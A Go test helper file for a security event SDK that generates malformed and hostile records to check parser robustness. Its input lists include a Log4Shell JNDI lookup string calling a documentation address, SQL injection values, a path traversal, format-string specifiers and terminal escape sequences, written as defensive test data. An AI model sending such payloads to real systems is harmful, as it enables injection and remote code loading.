package suite

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/ironpost/ironpost/sdk/event"
)

// testTime dates what the checks make up, unless a plugin's own lines say more.
var testTime = time.Date(2025, 11, 1, 12, 0, 0, 0, time.UTC)

// testStream returns a stream of the host's own.
func testStream(name, format string) *event.Stream {
	return &event.Stream{ID: event.StreamID("sdktest", name), Name: name, Plugin: "sdktest", Format: format, TimeZone: "UTC", Provenance: event.ProvenanceHost}
}

// hostileLines are records as an attacker would write them, among them those that
// the SDK keeps from a text parser.
func hostileLines() []string {
	return []string{
		"", " ", "\x00", "a\x00b", "\xff\xfe\xfd", "\xc3\x28", strings.Repeat("\x80", 100), "\r", "\t\v\f", "\u202e\u0000",
		strings.Repeat("A", event.MaxRecord), strings.Repeat("B", event.MaxRecord+1), strings.Repeat("C ", event.MaxRecord/2),
		strings.Repeat("[", 10000), strings.Repeat(`{"a":`, 10000), `{"a":` + strings.Repeat("9", 5000) + `}`, `{"\ud800":"\udfff"}`, `{"a":1,"a":2}`,
		"<999>1 - - - - - -", "<>", "<-1>x", "<" + strings.Repeat("1", 100) + ">", "<34>1 9999-99-99T99:99:99Z h a 1 - - m",
		"<34>Oct 32 25:61:61 host app[" + strings.Repeat("9", 30) + "]: m", strings.Repeat("=", 1000), strings.Repeat(`"`, 1001), strings.Repeat(`\`, 1001),
		"%s%n%x%d", "${jndi:ldap://192.0.2.1/a}", "\x1b[2J\x1b]0;title\a", "line one\nFailed password for root from 192.0.2.9 port 1 ssh2",
		"0001-01-01T00:00:00Z x", "292277026596-12-04T15:30:08Z x", "-9223372036854775808", "18446744073709551616", "1e999999999", "NaN",
		strings.Repeat("k=v ", 10000), strings.Repeat("é", 20000), "ends in a cut character \xe2\x82",
	}
}

// hostileBodies are records that are no events.
func hostileBodies() [][]byte {
	return [][]byte{
		nil,
		{0},
		{0xff},
		slices.Repeat([]byte{0xff}, 20),
		{0x52, 0xff, 0xff, 0xff, 0xff, 0x0f},
		{0x4a, 5, 'a'},
		slices.Repeat([]byte{0x52, 0}, 10000),
		slices.Repeat([]byte{0x8a, 1, 0}, 10000),
		{7},
		{0x0b, 0x0c},
		{0x4a, 3, 0xff, 0xfe, 0xfd},
		{0x70, 0x8f, 0x4e},                   // a host that is no name
		{0x52, 2, 0x18, 0x63},                // a field whose key is none
		{0x78, 0xff, 0xff, 0xff, 0xff, 0x0f}, // a process beyond all names
		{0x08, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 1},
	}
}

// hostileFields are an event's texts as an attacker would have them.
func hostileFields() []event.Field {
	out := []event.Field{{Key: "", Value: ""}, {Key: "src_ip", Value: "x from 8.8.8.8"}, {Key: "src_ip", Value: "999.1.1.1"}, {Key: "user", Value: strings.Repeat("u", 30000)}, {Key: "\u202e", Value: "'; DROP TABLE events; --"}}
	for i := range 500 {
		out = append(out, event.Field{Key: fmt.Sprint("k", i), Value: "v"})
	}
	return out
}

func hostileLogs() []*event.LogEvent {
	return []*event.LogEvent{
		{},
		{Time: time.Unix(0, 1)},
		{Time: time.Unix(0, -1)},
		{Time: testTime.AddDate(200, 0, 0), Message: strings.Repeat("m", 60000)},
		{Time: testTime, Severity: 255, Flags: 0xffffffff, PID: 0xffffffff, Message: "\x00", Host: "\x1b[2J", Process: "../../etc", Raw: []byte{0, 0xff}, Reason: "r"},
		{Time: testTime, Fields: hostileFields(), Message: "Failed password for x from 8.8.8.8 from 192.0.2.1 port 1 ssh2"},
	}
}

func hostileAlerts() []*event.AlertEvent {
	return []*event.AlertEvent{
		{},
		{ID: "\x00", RuleID: strings.Repeat("r", 60000), Severity: 255, Evidence: 255, Provenance: 255, Hops: 255, Count: 1<<64 - 1},
		{ID: "x", Time: testTime, RuleID: "r", Title: "\x1b[2J", Entities: hostileFields(), Details: hostileFields(), Logs: hostileLogs(), Packets: []*event.PacketEvent{{}}},
	}
}

func hostilePackages() []*event.InventoryEvent {
	return []*event.InventoryEvent{
		{},
		{ID: "\x00", Removed: true},
		{ID: strings.Repeat("i", 60000), Target: "\x1b[2J", Name: "' OR 1=1 --", Findings: []event.Finding{{}, {Severity: 255, Score: -1, EPSS: 1e308}}},
	}
}

func hostilePackets() []*event.PacketEvent {
	return []*event.PacketEvent{{}, {Time: testTime, Scope: 255, Ports: 1<<32 - 1, Packets: 1<<64 - 1, Interval: -1}}
}

// healthWhile asks for health all the while that work runs.
func (h *Host) healthWhile(work func()) {
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			h.Health()
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	})
	defer wg.Wait()
	defer close(stop)
	work()
}

// chunks cuts items into batches of at most n.
func chunks[E any](items []E, n int) [][]E { return slices.Collect(slices.Chunk(items, n)) }

// drains checks that a drain ends with every batch durable.
func drains(h *Host, l *Link, last uint64) {
	h.tb.Helper()
	if err := h.Drain(); err != nil {
		h.tb.Fatalf("Drain: %v", err)
	}
	l.Durable(last)
	if err := l.Close(); err != nil {
		h.tb.Errorf("end of the link: %v", err)
	}
}
